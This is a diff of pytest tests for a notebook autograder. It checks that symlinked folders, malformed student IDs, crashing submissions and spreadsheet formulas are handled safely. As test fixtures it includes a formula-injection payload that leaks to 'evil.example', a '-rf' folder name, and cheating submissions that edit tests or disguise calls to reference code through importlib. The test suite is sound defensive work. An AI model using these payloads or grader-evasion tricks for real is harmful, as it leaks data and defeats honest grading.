@@ -159,3 +159,231 @@ def test_a_project_corpus_copied_from_the_master_is_reported(tmp_path):
                 copy / "corpus" / "documents.json")
     (found,) = grade.copied_from_master(copy, master)
     assert found.startswith("corpus/: 1 file(s) identical to the master's own")
+
+
+# --- links, odd student ids, a crash, spreadsheet formulas -------------------
+
+HOSTILE = Path(__file__).resolve().parents[1] / "autograder" / "hostile"
+COURSE = Path(__file__).resolve().parents[1] / "autograder" / "course.py"
+FORMULA = '=HYPERLINK("evil.example?leak","click me")'  # a file name: no slash
+
+
+def hostile_expected() -> dict[str, tuple[float, list[str]]]:
+    """case -> (score, problems.csv lines) of autograder/hostile/expected.csv."""
+    import csv
+
+    with (HOSTILE / "expected.csv").open() as fh:
+        return {r["case"]: (float(r["score"]), sorted(filter(None, r["problems"].split(" | "))))
+                for r in csv.DictReader(fh)}
+
+
+def test_linked_student_and_assignment_folders_are_refused(tmp_path):
+    """`mallory -> source/` and `eve/lab -> source/lab` would hand in the
+    masters (full marks); neither is followed: each scores 0 with one line."""
+    import grade
+
+    subs = tmp_path / "subs"
+    subs.mkdir()
+    root = Path(__file__).resolve().parents[1]
+    (subs / "mallory").symlink_to(root / "source", target_is_directory=True)
+    (subs / "eve").mkdir()
+    (subs / "eve" / "lab").symlink_to(root / "source" / "lab", target_is_directory=True)
+    first = MASTERS[0]
+    out = tmp_path / "out"
+    proc = run_grader(subs, out, "--notebook", first.stem)
+    assert proc.returncode == 0, proc.stdout + proc.stderr
+    assert "graded 2 of 2 students" in proc.stdout
+    scores = pd.read_csv(out / "scores.csv").set_index("student")
+    assert list(scores.index) == ["eve", "mallory"]
+    assert (scores["score"] == 0).all() and (scores["notebook"] == first.name).all()
+    assert (scores["max_score"] == total(first)).all()
+    problems = pd.read_csv(out / "problems.csv")
+    assert sorted(map(tuple, problems.values)) == [
+        ("eve", grade.LINK_REFUSED), ("mallory", grade.LINK_REFUSED)]
+    assert not (out / "feedback").exists() and not any((out / ".students").iterdir())
+
+
+@pytest.fixture(scope="module")
+def odd_class(tmp_path_factory):
+    """course.py grade (the hostile assignment) on students whose ids collide
+    with the grader's own names, folder names that are not student ids, one
+    student whose grading raises, and a file name that is a formula."""
+    tmp = tmp_path_factory.mktemp("odd")
+    subs = tmp / "subs"
+    subs.mkdir()
+    valid = {"vic": "correct", "vic.log": "edit_tests", "vic.partial": "os_exit",
+             "logs": "delete_tests", "feedback": "correct"}
+    for student, case in valid.items():
+        shutil.copytree(HOSTILE / "submissions" / case, subs / student)
+    # a notebook named like a formula beside feedback's correct one
+    nbformat.write(nbformat.v4.new_notebook(),
+                   subs / "feedback" / "hostile" / f"{FORMULA}.ipynb")
+    # a grade_id that is a list makes the grader raise for this student only
+    shutil.copytree(HOSTILE / "submissions" / "correct", subs / "crash")
+    path = subs / "crash" / "hostile" / "tiny.ipynb"
+    nb = nbformat.read(path, as_version=4)
+    cell = next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("solution"))
+    cell.metadata.nbgrader.grade_id = ["tiny_a"]
+    nbformat.write(nb, path)
+    refused = [".students", 'bad"<id>', "café", "a b", FORMULA, "x" * 65, "-rf"]
+    for name in refused:
+        shutil.copytree(HOSTILE / "submissions" / "correct", subs / name)
+    out = tmp / "out"
+    proc = subprocess.run([sys.executable, str(COURSE), "grade", "--submissions", str(subs),
+                           "--out", str(out), "--source", str(HOSTILE / "source"),
+                           "--jobs", "2", "--timeout", "20"],
+                          capture_output=True, text=True)
+    return {"proc": proc, "out": out, "valid": valid, "refused": refused}
+
+
+def test_colliding_ids_keep_their_own_results(odd_class):
+    """vic, vic.log, vic.partial, logs and feedback each get exactly their
+    own score, problems, log and feedback."""
+    out = odd_class["out"] / "hostile"
+    want = hostile_expected()
+    scores = pd.read_csv(out / "scores.csv", dtype={"student": str}
+                         ).groupby("student")["score"].sum()
+    problems = pd.read_csv(out / "problems.csv", keep_default_na=False)
+    for student, case in odd_class["valid"].items():
+        assert scores[student] == want[case][0], (student, odd_class["proc"].stdout)
+        lines = sorted(problems.loc[problems.student == student, "problem"])
+        extra = ["'" + f"{FORMULA}.ipynb: not part of the assignment, ignored"] \
+            if student == "feedback" else []
+        assert lines == sorted(want[case][1] + extra), student
+        assert (out / "logs" / f"{student}.log").is_file()
+        assert (out / "feedback" / student / "hostile" / "tiny.html").is_file()
+    kept = sorted(p.name for p in (out / ".students").iterdir())
+    assert kept == sorted([*odd_class["valid"], "crash"])
+    assert not (out / ".partial").exists() or not any((out / ".partial").iterdir())
+
+
+def test_a_crash_is_one_students_problem(odd_class):
+    """The student whose grading raised gets one line and no score; the
+    batch goes on, and the grade sheet still holds everyone else."""
+    out = odd_class["out"]
+    problems = pd.read_csv(out / "hostile" / "problems.csv", keep_default_na=False)
+    assert list(problems.loc[problems.student == "crash", "problem"]) == [
+        "(grader): grading failed: TypeError: unhashable type: 'list'"]
+    assert "crash" not in set(pd.read_csv(out / "hostile" / "scores.csv")["student"])
+    sheet = pd.read_csv(out / "grade_sheet.csv", dtype={"student": str}).set_index("student")
+    assert sorted(sheet.index) == sorted(odd_class["valid"])
+    want = hostile_expected()
+    for student, case in odd_class["valid"].items():
+        assert sheet.loc[student, "hostile"] == want[case][0]
+
+
+def test_folder_names_that_are_not_ids_are_refused_and_shown_escaped(odd_class):
+    """Quotes, <>, spaces, non-ASCII, a leading dot or dash, a formula, 65
+    characters: not graded, one escaped line each, in problems.csv and the
+    printed summary; the exit status says a student has no grade."""
+    import grade
+
+    proc, out = odd_class["proc"], odd_class["out"] / "hostile"
+    assert proc.returncode == 1, proc.stdout + proc.stderr
+    problems = pd.read_csv(out / "problems.csv", keep_default_na=False)
+    scores = pd.read_csv(out / "scores.csv", dtype={"student": str})
+    for name in odd_class["refused"]:
+        shown = grade.shown_id(name)
+        assert shown.isascii() and not grade.valid_id(shown)
+        assert not any(ch in shown for ch in "\"'<> ")
+        assert list(problems.loc[problems.student == shown, "problem"]) == [grade.ID_REFUSED]
+        assert f"  ! {shown}: {grade.ID_REFUSED}" in proc.stdout
+        assert shown not in set(scores["student"])
+    assert grade.shown_id('bad"<id>') == "bad\\x22\\x3cid\\x3e"
+    assert grade.shown_id(".students") == "\\x2estudents"
+    assert grade.shown_id("x" * 65) == "x" * 65
+    assert f"graded {len(odd_class['valid'])} of " \
+           f"{len(odd_class['valid']) + 1 + len(odd_class['refused'])} students" in proc.stdout
+    # nothing was written under a refused name anywhere in --out
+    names = {p.name for p in odd_class["out"].rglob("*")}
+    assert not names & ({*odd_class["refused"], f"{FORMULA}.log"} - {".students"})
+
+
+def test_no_csv_cell_is_a_spreadsheet_formula(odd_class):
+    """Every CSV under --out (scores, problems, grades, report/, the grade
+    sheet, nbgrader's export in formgrader/) read back: a text cell never
+    starts with = + - @ or a tab or CR; the formula file name is there,
+    neutralised; numbers are still numbers."""
+    import csv
+
+    import safe_csv
+
+    files = sorted(odd_class["out"].rglob("*.csv"))
+    names = {str(p.relative_to(odd_class["out"])) for p in files}
+    assert {"grade_sheet.csv", "formgrader/grades.csv", "hostile/scores.csv",
+            "hostile/problems.csv", "hostile/grades.csv", "hostile/report/totals.csv",
+            "hostile/report/tests.csv", "hostile/report/problems.csv"} <= names
+    seen = []
+    for path in files:
+        if ".students" in path.parts:  # nbgrader's own export, kept for resuming
+            continue
+        with path.open(newline="", encoding="utf-8") as fh:
+            for row in csv.reader(fh):
+                for value in row:
+                    seen.append(value)
+                    assert not value.startswith(safe_csv.FORMULA_START) or \
+                        safe_csv.PLAIN_NUMBER.fullmatch(value), (path, value)
+    assert "'" + f"{FORMULA}.ipynb: not part of the assignment, ignored" in seen
+    sheet = pd.read_csv(odd_class["out"] / "grade_sheet.csv")
+    assert pd.api.types.is_numeric_dtype(sheet["hostile"])
+    scores = pd.read_csv(odd_class["out"] / "hostile" / "scores.csv")
+    assert pd.api.types.is_numeric_dtype(scores["score"])
+
+
+def test_safe_csv_cells():
+    """The one helper: formulas become text, numbers stay numbers."""
+    import safe_csv
+
+    cell = safe_csv.cell
+    assert [cell(v) for v in ("=1+1", "+1+1", "@SUM(A1)", "\t=x", "\r=x", "-1+1",
+                              "-inf", FORMULA)] == [
+        "'=1+1", "'+1+1", "'@SUM(A1)", "'\t=x", "'\r=x", "'-1+1", "'-inf", "'" + FORMULA]
+    assert [cell(v) for v in (-3.0, -3, "-3", "-0.5", "-1e3", "vic", "", None)] == [
+        -3.0, -3, "-3", "-0.5", "-1e3", "vic", "", None]
+    frame = pd.DataFrame({"student": ["=evil", "ok"], "score": [-1.5, 2.0]})
+    got = safe_csv.neutralised(frame)
+    assert list(got["student"]) == ["'=evil", "ok"] and list(got["score"]) == [-1.5, 2.0]
+
+
+def replace_answer(nb, grade_id: str, source: str) -> None:
+    cell = next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id)
+    cell.source = source
+
+
+def test_calling_the_package_twin_scores_zero_and_is_named(tmp_path):
+    """A task that asks to build a piece gives no points for calling ragkit's
+    own: decided by what runs (the judge's profiler), however the twin was
+    reached; calling ragkit where the task says to stays fine (Part D)."""
+    name = "05_reranking.ipynb"
+    lab = copy_notebooks("ada_complete", [name], tmp_path / "subs" / "vera_delegates")
+    nb = nbformat.read(lab / name, as_version=4)
+    # Part A through importlib and getattr, Part B as a plain attribute,
+    # Part C with `from ... import` under another name
+    replace_answer(nb, "nb05_token_vectors",
+                   "import importlib\n\n"
+                   "def token_vectors(text, dim=64):\n"
+                   "    package = importlib.import_module('ragkit.' + 'rerank')\n"
+                   "    return getattr(package, 'token_' + 'vectors')(text, dim).tolist()")
+    replace_answer(nb, "nb05_maxsim",
+                   "def maxsim(query_rows, passage_rows):\n"
+                   "    if not query_rows or not passage_rows:\n        return 0.0\n"
+                   "    return float(ragkit.rerank.maxsim(np.array(query_rows),\n"
+                   "                                      np.array(passage_rows)))")
+    replace_answer(nb, "nb05_maxsim_rerank",
+                   "from ragkit.rerank import rerank as the_real_thing\n\n"
+                   "def maxsim_rerank(query, ids, texts, dim=64):\n"
+                   "    return the_real_thing(query, ids, texts, dim)")
+    nbformat.write(nb, lab / name)
+    out = tmp_path / "out"
+    proc = run_grader(tmp_path / "subs", out, "--notebook", "05_reranking")
+    assert proc.returncode == 0, proc.stdout + proc.stderr
+    master = next(m for m in MASTERS if m.name == name)
+    lost = {gid for gid, _, _ in grade_cells(master)
+            if gid.split("_", 2)[-1] in ("token_vectors", "maxsim", "maxsim_rerank")}
+    assert len(lost) == 6
+    kept = sum(p for gid, p, _ in grade_cells(master) if gid not in lost)
+    scores = pd.read_csv(out / "scores.csv")
+    assert float(scores.loc[scores.notebook == name, "score"].sum()) == kept
+    problems = pd.read_csv(out / "problems.csv", keep_default_na=False)["problem"]
+    named = {line.split("'")[1] for line in problems if "ragkit's own twin" in line}
+    assert named == lost, list(problems)
